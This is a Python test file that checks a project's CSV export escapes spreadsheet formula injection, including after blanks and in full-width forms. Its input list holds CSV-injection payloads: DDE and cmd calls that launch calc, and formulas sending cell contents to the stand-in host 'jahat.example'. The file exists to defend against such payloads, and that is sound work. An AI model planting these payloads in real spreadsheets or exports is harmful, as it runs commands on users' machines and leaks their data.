"""A39: a table that somebody opens runs nothing. Written, read back as a spreadsheet would; fails without the rule."""

from __future__ import annotations

import csv
import io
import re

import pytest

from terpadu.pages import csv as tables

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://jahat.example","x")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1",
    "\n=1", " =1", "\u3000=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(CONCAT(\"https://jahat.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://jahat.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\u00a0=1", "\ufeff=1", "\u200b=1", "'\t=1",
]  # fmt: skip
"""What spreadsheets run, also after blanks and in full-width forms."""


def dangerous(formulas: list[str]) -> list[str]:
    """Cells that would still run after the table was written and read again."""
    written = tables.table(["isi"], [[one] for one in formulas])
    rows = list(csv.reader(io.StringIO(written.removeprefix(tables.MARK))))
    assert len(rows) == len(formulas) + 1, "one row stays one row"
    return [row[0] for row in rows[1:] if re.match(r"[\s\ufeff\u200b]*[=+\-@＝＋－＠]", row[0])]


def test_no_cell_is_a_formula() -> None:
    assert dangerous(FORMULAS) == []


def test_numbers_stay_numbers() -> None:
    assert [tables.cell(value) for value in (-5, 0.5, None, "081234")] == ["-5", "0.5", "", "081234"]


def test_without_the_rule_they_run(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "cell", str)
    assert len(dangerous(FORMULAS)) > 10
